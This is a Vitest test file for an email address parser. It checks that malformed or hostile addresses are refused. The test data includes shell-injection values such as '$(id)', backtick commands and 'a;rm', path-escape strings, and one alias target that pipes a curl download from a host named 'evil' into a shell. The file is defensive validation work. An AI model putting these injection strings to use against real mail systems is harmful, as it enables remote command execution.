import { describe, expect, it } from 'vitest';
import { mailopsErrorOf } from '../../test/errors.ts';
import { parseAliasAddress, parseManagedAddress, parseTargets } from './address.ts';

const domains = ['example.com', 'xn--bcher-kva.example'];


describe('managed addresses', () => {
  it('normalises case and IDNA domains', () => {
    expect(parseManagedAddress('Alice.Smith@EXAMPLE.com', domains)).toEqual({ local: 'alice.smith', domain: 'example.com', address: 'alice.smith@example.com' });
    expect(parseManagedAddress('info@Bücher.example', domains).domain).toBe('xn--bcher-kva.example');
  });

  it.each([
    ['no @', 'alice'],
    ['empty local part', '@example.com'],
    ['two @', 'a@b@example.com'],
    ['path escape', 'x@../escape'],
    ['slash', 'a/b@example.com'],
    ['dot dot', 'a..b@example.com'],
    ['leading dot', '.a@example.com'],
    ['leading dash', '-rf@example.com'],
    ['space', 'a b@example.com'],
    ['tab', 'a\tb@example.com'],
    ['newline', 'a\nb@example.com'],
    ['NUL', 'a\u0000b@example.com'],
    ['semicolon', 'a;rm@example.com'],
    ['command substitution', '$(id)@example.com'],
    ['backtick', '`id`@example.com'],
    ['quote', "o'brien@example.com"],
    ['pipe', 'a|b@example.com'],
    ['plus (suffix separator)', 'a+b@example.com'],
    ['non-ASCII local part', 'jürgen@example.com'],
    ['over-long local part', `${'a'.repeat(65)}@example.com`],
    ['over-long address', `${'a'.repeat(60)}@${'b'.repeat(60)}.${'c'.repeat(60)}.${'d'.repeat(60)}.com`],
    ['unmanaged domain', 'alice@example.org'],
    ['domain with a path', 'alice@example.com/../x'],
    ['catch-all as a sender', '*@example.com'],
  ])('refuses %s', (_name, input) => {
    const error = mailopsErrorOf(() => parseManagedAddress(input, domains));
    expect(error.exitCode).toBe(2);
    expect(error.message.length).toBeGreaterThan(10);
  });
});

describe('alias addresses and targets', () => {
  it('accepts the catch-all', () => {
    expect(parseAliasAddress('*@Example.com', domains).address).toBe('*@example.com');
  });

  it('completes bare names with the alias domain, keeps remote targets and +tags, drops duplicates', () => {
    expect(parseTargets(' alice , Bob+News@GMAIL.com,alice@example.com,', 'example.com')).toEqual(['alice@example.com', 'bob+news@gmail.com']);
  });

  it.each([
    ['a pipe command', '| /bin/sh -c "curl evil | sh"'],
    ['an empty list', ' , '],
    ['a quote', 'a"b@example.com'],
    ['command substitution', '$(id)@example.com'],
    ['two @', 'a@b@example.com'],
    ['a newline', 'alice\n@example.com'],
    ['a bad domain', 'alice@exa mple.com'],
    ['a leading dash', '-f@example.com'],
  ])('refuses %s as targets', (_name, input) => {
    expect(mailopsErrorOf(() => parseTargets(input, 'example.com')).exitCode).toBe(2);
  });
});
